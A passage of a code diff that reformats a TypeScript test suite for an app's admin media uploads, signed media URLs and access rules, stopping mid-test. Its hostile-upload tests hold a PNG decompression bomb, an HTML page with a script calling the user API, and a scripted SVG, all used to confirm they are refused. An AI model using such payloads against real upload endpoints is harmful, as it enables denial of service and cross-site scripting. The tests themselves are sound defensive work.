@@ -6,7 +6,20 @@ import { Readable } from 'node:stream';
 import { crc32, deflateSync } from 'node:zlib';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ADMIN_MEDIA_KINDS, MEDIA_MAX_BYTES, MEDIA_MESSAGE, WARRIOR_MESSAGE, adminMediaPath, imageUploadedSchema, mediaField, pageSchema, phaseDataSchema, videoSchema, videoUploadedSchema, type AdminMediaKind } from '@evolution/shared';
+import {
+  ADMIN_MEDIA_KINDS,
+  MEDIA_MAX_BYTES,
+  MEDIA_MESSAGE,
+  WARRIOR_MESSAGE,
+  adminMediaPath,
+  imageUploadedSchema,
+  mediaField,
+  pageSchema,
+  phaseDataSchema,
+  videoSchema,
+  videoUploadedSchema,
+  type AdminMediaKind,
+} from '@evolution/shared';
 import { AuditLog, Evolution, FormGroup, Media, Page } from '../src/entities/index.ts';
 import { IMAGE_TOO_MANY_PIXELS, mediaSignature } from '../src/services/media.ts';
 import { uploadStorage } from '../src/services/storage.ts';
@@ -22,8 +35,14 @@ const fixtures = join(import.meta.dirname, '../../client/e2e/fixtures');
 const mp4 = readFileSync(join(fixtures, 'coach-demo.mp4'));
 const webm = readFileSync(join(fixtures, 'coach-demo.webm'));
 
-const png = () => sharp({ create: { width: 64, height: 48, channels: 4, background: '#2e86de' } }).png().toBuffer();
-const jpeg = () => sharp({ create: { width: 64, height: 48, channels: 3, background: '#27ae60' } }).jpeg().toBuffer();
+const png = () =>
+  sharp({ create: { width: 64, height: 48, channels: 4, background: '#2e86de' } })
+    .png()
+    .toBuffer();
+const jpeg = () =>
+  sharp({ create: { width: 64, height: 48, channels: 3, background: '#27ae60' } })
+    .jpeg()
+    .toBuffer();
 
 /** A PNG chunk: length, type, data and CRC. */
 function pngChunk(type: string, data: Buffer): Buffer {
@@ -41,7 +60,12 @@ function pngBomb(): Buffer {
   header.writeUInt32BE(50_000, 0);
   header.writeUInt32BE(50_000, 4);
   header[8] = 8; // 8 bits per sample, greyscale
-  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), pngChunk('IHDR', header), pngChunk('IDAT', deflateSync(Buffer.alloc(50_001 * 20))), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    Buffer.from('89504e470d0a1a0a', 'hex'),
+    pngChunk('IHDR', header),
+    pngChunk('IDAT', deflateSync(Buffer.alloc(50_001 * 20))),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /** A ZIP archive of one stored file, as `zip -0` writes it (Java reads a JAR of this shape). */
@@ -91,7 +115,11 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
   // Its own data folder, so counting the files of uploads/ sees only this file's uploads.
   const dataDir = mkdtempSync(join(tmpdir(), 'evolution-media-'));
   afterAll(() => rmSync(dataDir, { recursive: true, force: true }));
-  const ctx = useTestApp({ dataDir, mediaMaxBytes: { image: MEDIA_MAX_BYTES.image, video: VIDEO_LIMIT }, ...(s3 ? { storage: s3.storage } : {}) });
+  const ctx = useTestApp({
+    dataDir,
+    mediaMaxBytes: { image: MEDIA_MAX_BYTES.image, video: VIDEO_LIMIT },
+    ...(s3 ? { storage: s3.storage } : {}),
+  });
   let admin: { token: string; userId: number };
   let member: { token: string; userId: number };
 
@@ -101,17 +129,34 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
   });
 
   /** What the store holds: the files of uploads/, or the bucket's keys and any multipart upload left in flight. */
-  const uploadedFiles = async () => s3
-    ? [...(await s3.keys('uploads/')), ...s3.uploadsInFlight().map((id) => `in flight: ${id}`)]
-    : (await readdir(join(dataDir, 'uploads')).catch(() => [] as string[])).map((name) => `uploads/${name}`).sort();
+  const uploadedFiles = async () =>
+    s3
+      ? [...(await s3.keys('uploads/')), ...s3.uploadsInFlight().map((id) => `in flight: ${id}`)]
+      : (await readdir(join(dataDir, 'uploads')).catch(() => [] as string[])).map((name) => `uploads/${name}`).sort();
   const mediaRows = () => ctx.app.orm.em.fork().count(Media, {});
 
   /** POST admin/{…} with one file in the kind's field (or another field), as a browser's FormData sends it. */
-  async function upload(kind: AdminMediaKind, data: Buffer, opts: { token?: string | null; filename?: string; type?: string; field?: string } = {}) {
+  async function upload(
+    kind: AdminMediaKind,
+    data: Buffer,
+    opts: { token?: string | null; filename?: string; type?: string; field?: string } = {},
+  ) {
     const field = opts.field ?? mediaField(kind);
-    const body = await multipart({}, [{ name: field, filename: opts.filename ?? (field === 'image' ? 'picture.jpg' : 'clip.mp4'), type: opts.type ?? 'application/octet-stream', data }]);
+    const body = await multipart({}, [
+      {
+        name: field,
+        filename: opts.filename ?? (field === 'image' ? 'picture.jpg' : 'clip.mp4'),
+        type: opts.type ?? 'application/octet-stream',
+        data,
+      },
+    ]);
     const token = opts.token === undefined ? admin.token : opts.token;
-    const res = await ctx.app.inject({ method: 'POST', url: `/api/admin/${adminMediaPath(kind)}`, payload: body.payload, headers: { ...body.headers, ...(token ? { authorization: `Bearer ${token}` } : {}) } });
+    const res = await ctx.app.inject({
+      method: 'POST',
+      url: `/api/admin/${adminMediaPath(kind)}`,
+      payload: body.payload,
+      headers: { ...body.headers, ...(token ? { authorization: `Bearer ${token}` } : {}) },
+    });
     return { status: res.statusCode, body: JSON.parse(res.body) };
   }
 
@@ -131,9 +176,15 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
         expect(res.status).toBe(201);
         const ref = (field === 'image' ? imageUploadedSchema : videoUploadedSchema).strict().parse(res.body);
         const media = 'image' in ref ? ref.image : ref.video;
-        expect(media.path).toMatch(new RegExp(`^${ctx.app.config.appUrl}/api/media/${media.id}\\?expires=\\d+&signature=[0-9a-f]{64}$`));
+        expect(media.path).toMatch(
+          new RegExp(`^${ctx.app.config.appUrl}/api/media/${media.id}\\?expires=\\d+&signature=[0-9a-f]{64}$`),
+        );
         const row = await ctx.app.orm.em.fork().findOneOrFail(Media, media.id);
-        expect(row).toMatchObject({ kind, owner: null, mime: field === 'image' ? 'image/jpeg' : kind === 'page_video' ? 'video/webm' : 'video/mp4' });
+        expect(row).toMatchObject({
+          kind,
+          owner: null,
+          mime: field === 'image' ? 'image/jpeg' : kind === 'page_video' ? 'video/webm' : 'video/mp4',
+        });
         // A generated name, never the client's.
         expect(row.path).toMatch(/^uploads\/[0-9a-f-]{36}\.(jpg|mp4|webm)$/);
       }
@@ -142,8 +193,14 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
     it.skipIf(driver === 's3')('needs a token (401) and an admin (403), before reading the file', async () => {
       for (const kind of ADMIN_MEDIA_KINDS) {
         const data = mediaField(kind) === 'image' ? await png() : mp4;
-        expect(await upload(kind, data, { token: null })).toMatchObject({ status: 401, body: { message: 'Unauthenticated.' } });
-        expect(await upload(kind, data, { token: member.token })).toMatchObject({ status: 403, body: { message: 'This action is unauthorized.' } });
+        expect(await upload(kind, data, { token: null })).toMatchObject({
+          status: 401,
+          body: { message: 'Unauthenticated.' },
+        });
+        expect(await upload(kind, data, { token: member.token })).toMatchObject({
+          status: 403,
+          body: { message: 'This action is unauthorized.' },
+        });
       }
     });
 
@@ -157,49 +214,96 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
       expect(stored.includes('SecretCam')).toBe(false);
       expect(row.thumbnail).toBeTruthy();
       // A PNG and a WebP are taken too, and stored as JPEG.
-      expect((await upload('page_image', await png(), { filename: 'diagram.png', type: 'image/png' })).status).toBe(201);
-      const webp = await sharp({ create: { width: 30, height: 30, channels: 3, background: '#000' } }).webp().toBuffer();
+      expect((await upload('page_image', await png(), { filename: 'diagram.png', type: 'image/png' })).status).toBe(
+        201,
+      );
+      const webp = await sharp({ create: { width: 30, height: 30, channels: 3, background: '#000' } })
+        .webp()
+        .toBuffer();
       expect((await upload('page_image', webp, { filename: 'x.webp' })).status).toBe(201);
     });
 
     it('refuses what is not what it claims (422) and leaves no file behind', async () => {
       const before = await uploadedFiles();
-      expect(await upload('page_video', await png(), { filename: 'clip.mp4', type: 'video/mp4' })).toMatchObject({ status: 422, body: { message: MEDIA_MESSAGE.videoInvalid, errors: { video: [MEDIA_MESSAGE.videoInvalid] } } });
-      expect(await upload('meal_image', Buffer.from('this is a text file\n'), { filename: 'photo.jpg', type: 'image/jpeg' })).toMatchObject({ status: 422, body: { errors: { image: [MEDIA_MESSAGE.imageInvalid] } } });
+      expect(await upload('page_video', await png(), { filename: 'clip.mp4', type: 'video/mp4' })).toMatchObject({
+        status: 422,
+        body: { message: MEDIA_MESSAGE.videoInvalid, errors: { video: [MEDIA_MESSAGE.videoInvalid] } },
+      });
+      expect(
+        await upload('meal_image', Buffer.from('this is a text file\n'), { filename: 'photo.jpg', type: 'image/jpeg' }),
+      ).toMatchObject({ status: 422, body: { errors: { image: [MEDIA_MESSAGE.imageInvalid] } } });
       // A GIF is an image, but not one of the content formats.
-      const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } }).gif().toBuffer();
-      expect(await upload('page_image', gif, { filename: 'a.gif' })).toMatchObject({ status: 422, body: { errors: { image: [MEDIA_MESSAGE.imageInvalid] } } });
+      const gif = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
+        .gif()
+        .toBuffer();
+      expect(await upload('page_image', gif, { filename: 'a.gif' })).toMatchObject({
+        status: 422,
+        body: { errors: { image: [MEDIA_MESSAGE.imageInvalid] } },
+      });
       // A Matroska file is EBML but not WebM; a QuickTime movie is ISO BMFF but not MP4.
       const matroska = Buffer.from(webm);
       matroska.write('mkvx', webm.indexOf('webm'), 'latin1');
-      expect(await upload('form_group_video', matroska)).toMatchObject({ status: 422, body: { errors: { video: [MEDIA_MESSAGE.videoInvalid] } } });
+      expect(await upload('form_group_video', matroska)).toMatchObject({
+        status: 422,
+        body: { errors: { video: [MEDIA_MESSAGE.videoInvalid] } },
+      });
       const quicktime = Buffer.from(mp4);
-      for (const brand of ['isom', 'iso2', 'avc1', 'mp41']) for (let at = quicktime.indexOf(brand); at >= 0 && at < 40; at = quicktime.indexOf(brand)) quicktime.write('qt  ', at, 'latin1');
-      expect(await upload('meal_video', quicktime, { filename: 'clip.mov' })).toMatchObject({ status: 422, body: { errors: { video: [MEDIA_MESSAGE.videoInvalid] } } });
+      for (const brand of ['isom', 'iso2', 'avc1', 'mp41'])
+        for (let at = quicktime.indexOf(brand); at >= 0 && at < 40; at = quicktime.indexOf(brand))
+          quicktime.write('qt  ', at, 'latin1');
+      expect(await upload('meal_video', quicktime, { filename: 'clip.mov' })).toMatchObject({
+        status: 422,
+        body: { errors: { video: [MEDIA_MESSAGE.videoInvalid] } },
+      });
       expect(await uploadedFiles()).toEqual(before);
     });
 
     it('says the field is required without a file, or with the file in another field', async () => {
-      const empty = await ctx.app.inject({ method: 'POST', url: '/api/admin/page/video', headers: { authorization: `Bearer ${admin.token}` }, payload: {} });
+      const empty = await ctx.app.inject({
+        method: 'POST',
+        url: '/api/admin/page/video',
+        headers: { authorization: `Bearer ${admin.token}` },
+        payload: {},
+      });
       expect(empty.statusCode).toBe(422);
-      expect(JSON.parse(empty.body)).toEqual({ message: MEDIA_MESSAGE.videoRequired, errors: { video: [MEDIA_MESSAGE.videoRequired] } });
-      expect(await upload('meal_image', await png(), { field: 'video' })).toMatchObject({ status: 422, body: { errors: { image: [MEDIA_MESSAGE.imageRequired] } } });
-      expect(await upload('page_video', Buffer.alloc(0))).toMatchObject({ status: 422, body: { errors: { video: [MEDIA_MESSAGE.videoRequired] } } });
+      expect(JSON.parse(empty.body)).toEqual({
+        message: MEDIA_MESSAGE.videoRequired,
+        errors: { video: [MEDIA_MESSAGE.videoRequired] },
+      });
+      expect(await upload('meal_image', await png(), { field: 'video' })).toMatchObject({
+        status: 422,
+        body: { errors: { image: [MEDIA_MESSAGE.imageRequired] } },
+      });
+      expect(await upload('page_video', Buffer.alloc(0))).toMatchObject({
+        status: 422,
+        body: { errors: { video: [MEDIA_MESSAGE.videoRequired] } },
+      });
     });
 
     it('refuses a picture over 10 MB while reading it, with no file left', async () => {
       const before = await uploadedFiles();
       const big = Buffer.concat([await photoWithExif(), Buffer.alloc(MEDIA_MAX_BYTES.image)]);
-      expect(await upload('meal_image', big)).toMatchObject({ status: 422, body: { errors: { image: [MEDIA_MESSAGE.imageTooLarge] } } });
+      expect(await upload('meal_image', big)).toMatchObject({
+        status: 422,
+        body: { errors: { image: [MEDIA_MESSAGE.imageTooLarge] } },
+      });
       expect(await uploadedFiles()).toEqual(before);
     });
 
     it('refuses a video whose declared length is over the limit (200 MB unless configured) before reading it', async () => {
-      expect(MEDIA_MESSAGE.videoTooLarge).toBe(`The video may not be greater than ${MEDIA_MAX_BYTES.video / 1024} kilobytes.`);
+      expect(MEDIA_MESSAGE.videoTooLarge).toBe(
+        `The video may not be greater than ${MEDIA_MAX_BYTES.video / 1024} kilobytes.`,
+      );
       const body = await multipart({}, [{ name: 'video', filename: 'big.mp4', type: 'video/mp4', data: mp4 }]);
       const res = await ctx.app.inject({
-        method: 'POST', url: '/api/admin/page/video', payload: body.payload,
-        headers: { ...body.headers, authorization: `Bearer ${admin.token}`, 'content-length': String(VIDEO_LIMIT + 1024 * 1024) },
+        method: 'POST',
+        url: '/api/admin/page/video',
+        payload: body.payload,
+        headers: {
+          ...body.headers,
+          authorization: `Bearer ${admin.token}`,
+          'content-length': String(VIDEO_LIMIT + 1024 * 1024),
+        },
       });
       expect(res.statusCode).toBe(422);
       expect(JSON.parse(res.body).errors).toEqual({ video: [videoTooLarge] });
@@ -210,51 +314,73 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
       const boundary = 'x-media-test-boundary';
       const chunk = Buffer.alloc(1024 * 1024);
       async function* body() {
-        yield Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="video"; filename="long.mp4"\r\nContent-Type: video/mp4\r\n\r\n`);
+        yield Buffer.from(
+          `--${boundary}\r\nContent-Disposition: form-data; name="video"; filename="long.mp4"\r\nContent-Type: video/mp4\r\n\r\n`,
+        );
         yield mp4;
         for (let sent = 0; sent <= VIDEO_LIMIT; sent += chunk.length) yield chunk;
         yield Buffer.from(`\r\n--${boundary}--\r\n`);
       }
       const res = await ctx.app.inject({
-        method: 'POST', url: '/api/admin/form_group/video', payload: Readable.from(body()),
-        headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, authorization: `Bearer ${admin.token}`, 'transfer-encoding': 'chunked' },
+        method: 'POST',
+        url: '/api/admin/form_group/video',
+        payload: Readable.from(body()),
+        headers: {
+          'content-type': `multipart/form-data; boundary=${boundary}`,
+          authorization: `Bearer ${admin.token}`,
+          'transfer-encoding': 'chunked',
+        },
       });
       expect(res.statusCode).toBe(422);
       expect(JSON.parse(res.body).errors).toEqual({ video: [videoTooLarge] });
       expect(await uploadedFiles()).toEqual(before);
     });
 
-    it.skipIf(driver === 's3')('is admin.media.upload through tRPC (FormData over real HTTP, as a browser sends it), with the same rules', async () => {
-      const base = await ctx.app.listen({ port: 0, host: '127.0.0.1' });
-      const form = (kind: string, field: string, data: Buffer) => {
-        const f = new FormData();
-        f.append('kind', kind);
-        f.append(field, new Blob([new Uint8Array(data)]), 'file');
-        return f;
-      };
-      const call = async (body: FormData, token?: string) => {
-        const res = await fetch(`${base}/trpc/admin.media.upload`, { method: 'POST', body, headers: token ? { authorization: `Bearer ${token}` } : {} });
-        return { status: res.status, body: (await res.json()) as any };
-      };
-      const ok = await call(form('meal_image', 'image', await png()), admin.token);
-      expect(ok.status).toBe(200);
-      expect(imageUploadedSchema.strict().parse(ok.body.result.data).image.path).toContain('/api/media/');
-      const video = await call(form('form_group_video', 'video', webm), admin.token);
-      expect(videoUploadedSchema.parse(video.body.result.data).video.id).toBeGreaterThan(0);
-      expect((await call(form('meal_image', 'image', await png()), member.token)).status).toBe(403);
-      expect((await call(form('meal_image', 'image', await png()))).status).toBe(401);
-      const wrong = await call(form('page_video', 'video', await png()), admin.token);
-      expect(wrong.status).toBe(422);
-      expect(wrong.body.error.data.errors).toEqual({ video: [MEDIA_MESSAGE.videoInvalid] });
-      expect((await call(form('progress_photo', 'image', await png()), admin.token)).body.error.data.errors).toEqual({ kind: ['The selected kind is invalid.'] });
+    it.skipIf(driver === 's3')(
+      'is admin.media.upload through tRPC (FormData over real HTTP, as a browser sends it), with the same rules',
+      async () => {
+        const base = await ctx.app.listen({ port: 0, host: '127.0.0.1' });
+        const form = (kind: string, field: string, data: Buffer) => {
+          const f = new FormData();
+          f.append('kind', kind);
+          f.append(field, new Blob([new Uint8Array(data)]), 'file');
+          return f;
+        };
+        const call = async (body: FormData, token?: string) => {
+          const res = await fetch(`${base}/trpc/admin.media.upload`, {
+            method: 'POST',
+            body,
+            headers: token ? { authorization: `Bearer ${token}` } : {},
+          });
+          return { status: res.status, body: (await res.json()) as any };
+        };
+        const ok = await call(form('meal_image', 'image', await png()), admin.token);
+        expect(ok.status).toBe(200);
+        expect(imageUploadedSchema.strict().parse(ok.body.result.data).image.path).toContain('/api/media/');
+        const video = await call(form('form_group_video', 'video', webm), admin.token);
+        expect(videoUploadedSchema.parse(video.body.result.data).video.id).toBeGreaterThan(0);
+        expect((await call(form('meal_image', 'image', await png()), member.token)).status).toBe(403);
+        expect((await call(form('meal_image', 'image', await png()))).status).toBe(401);
+        const wrong = await call(form('page_video', 'video', await png()), admin.token);
+        expect(wrong.status).toBe(422);
+        expect(wrong.body.error.data.errors).toEqual({ video: [MEDIA_MESSAGE.videoInvalid] });
+        expect((await call(form('progress_photo', 'image', await png()), admin.token)).body.error.data.errors).toEqual({
+          kind: ['The selected kind is invalid.'],
+        });
 
-      // Over real HTTP too, a refused video is answered at once and the connection is not left hanging.
-      const rest = new FormData();
-      rest.append('video', new Blob([new Uint8Array(await png()), new Uint8Array(8 * 1024 * 1024)]), 'clip.mp4');
-      const refused = await fetch(`${base}/api/admin/page/video`, { method: 'POST', body: rest, headers: { authorization: `Bearer ${admin.token}` }, signal: AbortSignal.timeout(15_000) });
-      expect(refused.status).toBe(422);
-      expect(((await refused.json()) as any).errors).toEqual({ video: [MEDIA_MESSAGE.videoInvalid] });
-    });
+        // Over real HTTP too, a refused video is answered at once and the connection is not left hanging.
+        const rest = new FormData();
+        rest.append('video', new Blob([new Uint8Array(await png()), new Uint8Array(8 * 1024 * 1024)]), 'clip.mp4');
+        const refused = await fetch(`${base}/api/admin/page/video`, {
+          method: 'POST',
+          body: rest,
+          headers: { authorization: `Bearer ${admin.token}` },
+          signal: AbortSignal.timeout(15_000),
+        });
+        expect(refused.status).toBe(422);
+        expect(((await refused.json()) as any).errors).toEqual({ video: [MEDIA_MESSAGE.videoInvalid] });
+      },
+    );
 
     it.skipIf(driver === 's3')('is documented in the OpenAPI description', async () => {
       const spec = JSON.parse((await get('/api/openapi.json')).body);
@@ -274,7 +400,12 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
       const res = await get(local(video.path));
       expect(res.statusCode).toBe(200);
       expect(res.rawPayload.equals(mp4)).toBe(true);
-      expect(res.headers).toMatchObject({ 'content-type': 'video/mp4', 'accept-ranges': 'bytes', 'content-length': String(mp4.length), 'content-disposition': 'inline' });
+      expect(res.headers).toMatchObject({
+        'content-type': 'video/mp4',
+        'accept-ranges': 'bytes',
+        'content-length': String(mp4.length),
+        'content-disposition': 'inline',
+      });
       expect(res.headers['cache-control']).toMatch(/^private, max-age=\d+$/);
       expect(res.headers.etag).toBe(`"m${video.id}-${mp4.length}"`);
       expect((await get(local(video.path), { 'if-none-match': res.headers.etag as string })).statusCode).toBe(304);
@@ -325,22 +456,42 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
       expect(res.rawPayload.equals(long.subarray(boundary - 10, boundary + 10))).toBe(true);
     });
 
-    it.skipIf(driver === 's3')('needs a valid, unexpired signature (403 when tampered, expired or for another id)', async () => {
-      const url = new URL(video.path);
-      const expires = Number(url.searchParams.get('expires'));
-      const signature = url.searchParams.get('signature')!;
-      const tampered = `${signature.slice(0, -1)}${signature.endsWith('0') ? '1' : '0'}`;
-      const forbidden = (res: { statusCode: number; body: string }) => [res.statusCode, JSON.parse(res.body).message];
-      expect(forbidden(await get(`/api/media/${video.id}?expires=${expires}&signature=${tampered}`))).toEqual([403, MEDIA_MESSAGE.signatureInvalid]);
-      expect((await get(`/api/media/${video.id}?expires=${expires + 1}&signature=${signature}`)).statusCode).toBe(403);
-      expect((await get(`/api/media/${video.id}?expires=${expires}`)).statusCode).toBe(403);
-      const past = Math.floor(Date.now() / 1000) - 60;
-      expect((await get(`/api/media/${video.id}?expires=${past}&signature=${mediaSignature(ctx.app.config, video.id, past)}`)).statusCode).toBe(403);
-      const other = (await upload('meal_video', webm)).body.video;
-      expect((await get(`/api/media/${other.id}?expires=${expires}&signature=${signature}`)).statusCode).toBe(403);
-      // An unknown id is 404 once the signature is genuine.
-      expect((await get(`/api/media/999999?expires=${expires}&signature=${mediaSignature(ctx.app.config, 999999, expires)}`)).statusCode).toBe(404);
-    });
+    it.skipIf(driver === 's3')(
+      'needs a valid, unexpired signature (403 when tampered, expired or for another id)',
+      async () => {
+        const url = new URL(video.path);
+        const expires = Number(url.searchParams.get('expires'));
+        const signature = url.searchParams.get('signature')!;
+        const tampered = `${signature.slice(0, -1)}${signature.endsWith('0') ? '1' : '0'}`;
+        const forbidden = (res: { statusCode: number; body: string }) => [res.statusCode, JSON.parse(res.body).message];
+        expect(forbidden(await get(`/api/media/${video.id}?expires=${expires}&signature=${tampered}`))).toEqual([
+          403,
+          MEDIA_MESSAGE.signatureInvalid,
+        ]);
+        expect((await get(`/api/media/${video.id}?expires=${expires + 1}&signature=${signature}`)).statusCode).toBe(
+          403,
+        );
+        expect((await get(`/api/media/${video.id}?expires=${expires}`)).statusCode).toBe(403);
+        const past = Math.floor(Date.now() / 1000) - 60;
+        expect(
+          (
+            await get(
+              `/api/media/${video.id}?expires=${past}&signature=${mediaSignature(ctx.app.config, video.id, past)}`,
+            )
+          ).statusCode,
+        ).toBe(403);
+        const other = (await upload('meal_video', webm)).body.video;
+        expect((await get(`/api/media/${other.id}?expires=${expires}&signature=${signature}`)).statusCode).toBe(403);
+        // An unknown id is 404 once the signature is genuine.
+        expect(
+          (
+            await get(
+              `/api/media/999999?expires=${expires}&signature=${mediaSignature(ctx.app.config, 999999, expires)}`,
+            )
+          ).statusCode,
+        ).toBe(404);
+      },
+    );
 
     it('lets a signed-in user read content media with their token; a visitor without a signature is 401', async () => {
       const res = await get(`/api/media/${video.id}`, { authorization: `Bearer ${member.token}`, range: 'bytes=0-9' });
@@ -349,10 +500,16 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
       expect((await get(`/api/media/${video.id}`)).statusCode).toBe(401);
       // A signed-in user without the right to the programme or the meals reads neither's media by token.
       const unsubscribed = await trainingMember(ctx.app, { subscribed: false });
-      expect((await get(`/api/media/${video.id}`, { authorization: `Bearer ${unsubscribed.token}` })).statusCode).toBe(403);
+      expect((await get(`/api/media/${video.id}`, { authorization: `Bearer ${unsubscribed.token}` })).statusCode).toBe(
+        403,
+      );
       const mealVideo = (await upload('meal_video', webm)).body.video;
-      expect((await get(`/api/media/${mealVideo.id}`, { authorization: `Bearer ${member.token}` })).statusCode).toBe(403);
-      expect((await get(`/api/media/${mealVideo.id}`, { authorization: `Bearer ${admin.token}` })).statusCode).toBe(200);
+      expect((await get(`/api/media/${mealVideo.id}`, { authorization: `Bearer ${member.token}` })).statusCode).toBe(
+        403,
+      );
+      expect((await get(`/api/media/${mealVideo.id}`, { authorization: `Bearer ${admin.token}` })).statusCode).toBe(
+        200,
+      );
       expect((await get('/api/media/999999', { authorization: `Bearer ${member.token}` })).statusCode).toBe(404);
       expect((await get('/api/media/abc', { authorization: `Bearer ${member.token}` })).statusCode).toBe(404);
     });
@@ -361,7 +518,13 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
       const owner = await trainingMember(ctx.app);
       const photo = (await uploadPhoto(ctx.app, owner.token)).body.image.id as number;
       const expires = Math.floor(Date.now() / 1000) + 3600;
-      expect((await get(`/api/media/${photo}?expires=${expires}&signature=${mediaSignature(ctx.app.config, photo, expires)}`)).statusCode).toBe(403);
+      expect(
+        (
+          await get(
+            `/api/media/${photo}?expires=${expires}&signature=${mediaSignature(ctx.app.config, photo, expires)}`,
+          )
+        ).statusCode,
+      ).toBe(403);
       expect((await get(`/api/media/${photo}`, { authorization: `Bearer ${member.token}` })).statusCode).toBe(403);
       const own = await get(`/api/media/${photo}`, { authorization: `Bearer ${owner.token}` });
       expect(own.statusCode).toBe(200);
@@ -375,33 +538,40 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
   });
 
   describe('the member side of uploaded videos', () => {
-    it.skipIf(driver === 's3')('answers video_path and image_path beside the ids on pages, page and form group videos, and exercises', async () => {
-      const clip = (await upload('page_video', webm)).body.video;
-      const picture = (await upload('page_image', await png())).body.image;
-      const demo = (await upload('form_group_video', mp4)).body.video;
-      const em = ctx.app.orm.em.fork();
-      await em.nativeUpdate(Page, { id: 12 }, { video: clip.id, image: picture.id });
-      await em.nativeUpdate(FormGroup, { id: 2 }, { video: demo.id });
-      const auth = { token: member.token };
+    it.skipIf(driver === 's3')(
+      'answers video_path and image_path beside the ids on pages, page and form group videos, and exercises',
+      async () => {
+        const clip = (await upload('page_video', webm)).body.video;
+        const picture = (await upload('page_image', await png())).body.image;
+        const demo = (await upload('form_group_video', mp4)).body.video;
+        const em = ctx.app.orm.em.fork();
+        await em.nativeUpdate(Page, { id: 12 }, { video: clip.id, image: picture.id });
+        await em.nativeUpdate(FormGroup, { id: 2 }, { video: demo.id });
+        const auth = { token: member.token };
 
-      const page = pageSchema.strict().parse((await rest(ctx.app, 'GET', '/api/user/page/12', auth)).body);
-      expect(page).toMatchObject({ video_id: clip.id, image_id: picture.id });
-      expect(page.video_path).toContain(`/api/media/${clip.id}?`);
-      expect(page.image_path).toContain(`/api/media/${picture.id}?`);
-      const pageVideo = videoSchema.strict().parse((await rest(ctx.app, 'GET', '/api/storage/page/12/video', auth)).body);
-      expect(pageVideo.data.video_path).toContain(`/api/media/${clip.id}?`);
-      const groupVideo = await trpc(ctx.app, 'query', 'warrior.formGroupVideo', { formGroupId: 2 }, member.token);
-      expect(groupVideo.data.data).toMatchObject({ video_id: demo.id });
-      // The member's browser plays the address it was given.
-      const played = await get(local(pageVideo.data.video_path!), { range: 'bytes=0-3' });
-      expect(played.statusCode).toBe(206);
-      expect(played.rawPayload.equals(webm.subarray(0, 4))).toBe(true);
+        const page = pageSchema.strict().parse((await rest(ctx.app, 'GET', '/api/user/page/12', auth)).body);
+        expect(page).toMatchObject({ video_id: clip.id, image_id: picture.id });
+        expect(page.video_path).toContain(`/api/media/${clip.id}?`);
+        expect(page.image_path).toContain(`/api/media/${picture.id}?`);
+        const pageVideo = videoSchema
+          .strict()
+          .parse((await rest(ctx.app, 'GET', '/api/storage/page/12/video', auth)).body);
+        expect(pageVideo.data.video_path).toContain(`/api/media/${clip.id}?`);
+        const groupVideo = await trpc(ctx.app, 'query', 'warrior.formGroupVideo', { formGroupId: 2 }, member.token);
+        expect(groupVideo.data.data).toMatchObject({ video_id: demo.id });
+        // The member's browser plays the address it was given.
+        const played = await get(local(pageVideo.data.video_path!), { range: 'bytes=0-3' });
+        expect(played.statusCode).toBe(206);
+        expect(played.rawPayload.equals(webm.subarray(0, 4))).toBe(true);
 
-      const runner = await trainingMember(ctx.app);
-      await ctx.app.orm.em.fork().nativeUpdate(Evolution, { user: runner.userId }, { phase: 2 });
-      const phase = phaseDataSchema.parse((await rest(ctx.app, 'GET', '/api/user/channel/warrior/calibration/phase', { token: runner.token })).body);
-      expect(phase.data.find((e) => e.form_group_id === 2)!.video_path).toContain(`/api/media/${demo.id}?`);
-    });
+        const runner = await trainingMember(ctx.app);
+        await ctx.app.orm.em.fork().nativeUpdate(Evolution, { user: runner.userId }, { phase: 2 });
+        const phase = phaseDataSchema.parse(
+          (await rest(ctx.app, 'GET', '/api/user/channel/warrior/calibration/phase', { token: runner.token })).body,
+        );
+        expect(phase.data.find((e) => e.form_group_id === 2)!.video_path).toContain(`/api/media/${demo.id}?`);
+      },
+    );
   });
 
   describe('hostile uploads: each refused with a 422 that says why, leaving no media row and nothing in the store', () => {
@@ -412,26 +582,49 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
       expect(await mediaRows()).toBe(rows);
       expect(await uploadedFiles()).toEqual(files);
     }
-    const refusal = (field: 'image' | 'video', message: string) => ({ status: 422, body: { message, errors: { [field]: [message] } } });
+    const refusal = (field: 'image' | 'video', message: string) => ({
+      status: 422,
+      body: { message, errors: { [field]: [message] } },
+    });
 
     it('a file that lies about its type: a web page or a scripted SVG sent as a photo, a video as a picture, a picture as a video', async () => {
       const page = Buffer.from('<!doctype html><html><body><script>fetch("/api/user")</script></body></html>');
-      const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>');
+      const svg = Buffer.from(
+        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script><rect width="10" height="10"/></svg>',
+      );
       await leaveNothing(async () => {
-        expect(await uploadPhoto(ctx.app, member.token, page, 'front.jpg', 'image/jpeg')).toEqual(refusal('image', WARRIOR_MESSAGE.imageInvalid));
-        expect(await uploadPhoto(ctx.app, member.token, svg, 'front.png', 'image/png')).toEqual(refusal('image', WARRIOR_MESSAGE.imageInvalid));
-        expect(await upload('meal_image', svg, { filename: 'meal.png', type: 'image/png' })).toEqual(refusal('image', MEDIA_MESSAGE.imageInvalid));
